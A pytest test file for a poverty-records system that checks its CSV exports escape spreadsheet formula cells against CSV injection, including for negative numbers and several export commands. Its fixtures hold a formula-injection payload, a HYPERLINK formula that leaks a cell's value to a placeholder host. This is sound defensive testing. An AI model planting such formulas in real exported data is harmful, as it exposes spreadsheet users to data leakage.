"""Every CSV the system writes escapes cells that a spreadsheet would run as a formula (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest

from fupin.areas.models import Area
from fupin.core import csvsafe
from fupin.registry.models import Household

from ..conftest import VILLAGE_A
from .test_commands import run

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'


@pytest.mark.parametrize("value", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_escape_makes_formula_cells_text(value):
    assert csvsafe.escape(value) == "'" + value
    assert csvsafe.escape("昌黎村") == "昌黎村" and csvsafe.escape(-5) == -5


@pytest.fixture
def formula_town(town):
    Area.objects.filter(code=VILLAGE_A).update(name=FORMULA)
    Household.objects.filter(household_no="H-POOR").update(household_no="=1+1")
    return town


COMMANDS = {
    "villages": ("villages", "--year", "2016"),
    "assess": ("assess", "--year", "2016"),
    "simulate": ("simulate", "--year", "2016", "--set", "poverty_line=3500"),
    "targets": ("targets", "--persons", "1000"),
}


@pytest.mark.parametrize("name", COMMANDS)
def test_a_formula_in_a_name_comes_out_escaped_in_every_csv_output(formula_town, name):
    text = run(*COMMANDS[name], "--format", "csv")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells
    assert not [c for c in cells if c.startswith(csvsafe.FORMULA_STARTS) and not c.startswith("'")]
    if name in ("villages", "simulate"):
        assert "'" + FORMULA in cells
    if name == "assess":
        assert "'=1+1" in cells


def test_negative_numbers_stay_numbers(formula_town):
    text = run(*COMMANDS["simulate"], "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    numbers = [v for row in rows for v in row.values() if v and v.lstrip("-").replace(".", "").isdigit()]
    assert numbers and not [v for v in numbers if v.startswith("'")]
